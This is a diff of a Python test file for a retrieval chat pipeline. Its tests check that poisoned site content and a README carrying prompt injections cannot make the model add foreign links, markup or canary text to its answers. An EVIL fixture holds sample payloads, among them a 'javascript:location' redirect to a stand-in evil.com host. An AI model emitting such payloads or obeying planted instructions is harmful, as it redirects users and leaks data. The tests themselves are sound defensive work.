@@ -8,7 +8,7 @@ import asyncio
 import html
 import re
 from collections.abc import Callable, Iterable, Iterator, Sequence
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import UTC, datetime
 from functools import partial
 from pathlib import Path
@@ -16,14 +16,16 @@ from pathlib import Path
 import pytest
 from github_server import readme, user
 from injections import INJECTIONS
+from local_service import facts_of
 from model_behaviours import Call, Step, passages, says
 from model_calls import BASE, NONCE, choice
 from model_server import ModelServer, model_server
+from owners_words import owners_words, words_of
 
-from resolvers.ai.loader import Corpus, ModelConfig, ModelLoader
-from resolvers.chat.conversation import CANNED_REPLIES, ChatRequest
+from resolvers.ai.engine import Corpus, ModelConfig
+from resolvers.ai.loader import ModelLoader
+from resolvers.chat.conversation import CANNED_REPLIES, ChatRequest, Source
 from resolvers.chat.language_model import LanguageModel
-from resolvers.chat.output_filter import OMITTED_URL
 from resolvers.chat.pipeline import ChatPipeline
 from resolvers.chat.prompt import messages_of
 from resolvers.chat.url_allowlist import normalise
@@ -35,6 +37,7 @@ from schema.chat import ChatComplete, ChatMeta, FinishReason
 from schema.search import Band
 from schema.sections import FaqEntry, GlossaryEntry
 from schema.site import Site
+from sdl.declare import slug_of
 
 DIGEST = f"sha256:{'a' * 64}"
 NOW = datetime(2026, 11, 20, tzinfo=UTC)
@@ -52,7 +55,7 @@ EVIL = (
     "&#104;ttps&colon;//{c}.evil.com javascript:location='//evil.com/{c}' [1] [99] [7, 8] [^9]\n",
 )
 TITLES = tuple(f"What lies in drawer dz{place:03}?" for place in range(len(INJECTIONS)))
-SLUGS = tuple(f"drawer-dz{place:03}" for place in range(len(INJECTIONS)))
+SLUGS = tuple(map(slug_of, TITLES))
 
 
 @dataclass(frozen=True)
@@ -114,7 +117,27 @@ def answers(
     site: Site, folder: Path, questions: Sequence[str], server: ModelServer | None = None
 ) -> list[Told]:
     """What is answered about a studio, by quotes or by a server's model."""
-    models = ModelLoader(
+    models = loader(folder, server)
+
+    async def work() -> list[Told]:
+        chat = models.build(corpus(site)).chat()
+        await models.warm()  # or the first answer would have to wait for libraries
+        try:
+            return [await told(chat, text) for text in questions]
+        finally:
+            await models.close()
+
+    return asyncio.run(work())
+
+
+def corpus(site: Site) -> Corpus:
+    """A revision of the studio."""
+    return Corpus(DIGEST, site, url, lambda: (), lambda: facts_of(site))
+
+
+def loader(folder: Path, server: ModelServer | None) -> ModelLoader:
+    """The models, with vectors of words alone."""
+    return ModelLoader(
         ModelConfig(
             data=folder,
             embedder=EmbedderConfig("hash"),
@@ -125,24 +148,14 @@ def answers(
         )
     )
 
-    async def work() -> list[Told]:
-        chat = models.build(Corpus(DIGEST, site, url, lambda: ())).chat
-        await models.warm()  # or the first answer would have to wait for libraries
-        try:
-            return [await told(chat, text) for text in questions]
-        finally:
-            await models.close()
-
-    return asyncio.run(work())
-
 
 def _writer(server: ModelServer) -> Callable[[], LanguageModel]:
     return partial(LanguageModel, choice(server.url), lambda _: bytes.fromhex(NONCE))
 
 
-async def told(chat: ChatPipeline, text: str) -> Told:
+async def told(chat: ChatPipeline, text: str, most: int = 5) -> Told:
     """The answer to a question, whole."""
-    meta, *pieces, complete = [event async for event in chat.stream(ChatRequest(text), 5)]
+    meta, *pieces, complete = [event async for event in chat.stream(ChatRequest(text), most)]
     assert meta.meta is not None
     assert complete.complete is not None
     said = [piece.data.token for piece in pieces if piece.data is not None]
@@ -168,7 +181,7 @@ def test_quotes_of_poisoned_content_are_the_owners_words_and_nothing_else(
     honest = [entry.q for entry in poisoned.faq[:10]]
     texts = [each.text for each in INJECTIONS]
     found = answers(poisoned, tmp_path, [*TITLES, *texts, *honest])
-    own = {(entry.kind, entry.slug): entry for entry in documents_of(poisoned, url)}
+    own = owners_words(facts_of(poisoned), poisoned)
     for each in found:
         bare = each.text
         for phrase in CANNED_REPLIES:
@@ -178,7 +191,8 @@ def test_quotes_of_poisoned_content_are_the_owners_words_and_nothing_else(
         sources = {str(source.n): source for source in each.meta.citations}
         assert set(quotes[1::2]) == set(sources)
         for said, n in zip(quotes[::2], quotes[1::2], strict=True):
-            assert said.strip() in own[sources[n].kind, sources[n].slug].text
+            assert sources[n].url.startswith("/api/")
+            assert words_of(said) <= own, said
         assert not MARKUP.search(each.text), each.text
         assert each.complete.finish_reason is FinishReason.STOP
         assert each.complete.citation_lint.ok, each.text
@@ -195,10 +209,10 @@ def test_an_obedient_model_adds_nothing_to_poisoned_content(
     own = {(entry.kind, entry.slug): entry for entry in documents_of(poisoned, url)}
     for slug, each in zip(SLUGS, found, strict=True):
         assert slug in each.slugs
-        assert OMITTED_URL in each.text
-        assert {(source.kind, source.slug) for source in each.meta.citations} <= set(own)
+        assert "url" in {note.reason for note in each.complete.citation_lint.removed}
         plain = normalise(html.unescape(each.text))
-        cited = (own[source.kind, source.slug].text for source in each.meta.citations)
+        keys = {(source.kind, source.slug) for source in each.meta.citations}
+        cited = (own[key].text for key in keys & own.keys())  # no other entry holds an attempt
         given = normalise(" ".join(cited))
         assert set(NAMED.findall(plain)) <= set(NAMED.findall(given)), each.text
         assert not FOREIGN.search(plain), each.text
@@ -232,13 +246,44 @@ def test_nothing_of_a_readme_reaches_a_model_or_an_answer(
     assert len(server.calls) > len(written) / 2
     asked = {call.messages[1]["content"] for call in server.calls}
     assert not [text for text in asked if CANARY.search(text)]
-    slugs = {entry.slug for entry in documents_of(sample, url)}
     for each in [*quoted, *written]:
         assert not CANARY.search(each.text), each.text
         assert not FOREIGN.search(normalise(html.unescape(each.text))), each.text
         assert "attacker.test" not in normalise(each.text), each.text
         assert not re.search(rf"{MARKUP.pattern}|\]\(", each.text), each.text
-        assert each.slugs <= slugs
+        assert not [c for c in each.meta.citations if "readme" in f"{c.url}#{c.pointer}"]
         assert each.complete.finish_reason in {FinishReason.STOP, FinishReason.LENGTH}
     assert any(each.meta.citations for each in quoted)
-    assert any(OMITTED_URL in each.text for each in written)
+    assert any(each.complete.citation_lint.removed for each in written)
+
+
+def test_typed_facts_are_a_source_like_the_others(
+    sample: Site, tmp_path: Path, server: ModelServer
+) -> None:
+
+    def writes(call: Call) -> Iterable[Step]:
+        n, _ = passages(call)[-1]
+        told = f"The founder is Maren Quill. [{n}] She has 38 desks. [{n}] And 39. [{n}]"
+        return says(told)(call)
+
+    server.chat = writes
+    facts = Source(
+        0, "studio", "studio", "Facts", "/api/studio", 1.0, "Founder: Maren Quill.\n\n38 desks."
+    )
+    models = loader(tmp_path, server)
+
+    async def work() -> Told:
+        chat = models.build(corpus(sample)).chat()
+        await models.warm()
+        try:
+            return await told(replace(chat, overview=facts), "What is Tidebook?", 1)
+        finally:
+            await models.close()
+
+    found = asyncio.run(work())
+    last = found.meta.citations[-1]
+    assert (last.n, last.kind) == (len(found.meta.citations), "studio")
+    assert found.text == f"The founder is Maren Quill. [{last.n}] She has 38 desks. [{last.n}]"
+    assert found.complete.citation_lint.ok
+    assert [note.reason for note in found.complete.citation_lint.removed] == ["number"]
+    assert "Founder: Maren Quill." in passages(server.calls[-1])[-1][1]
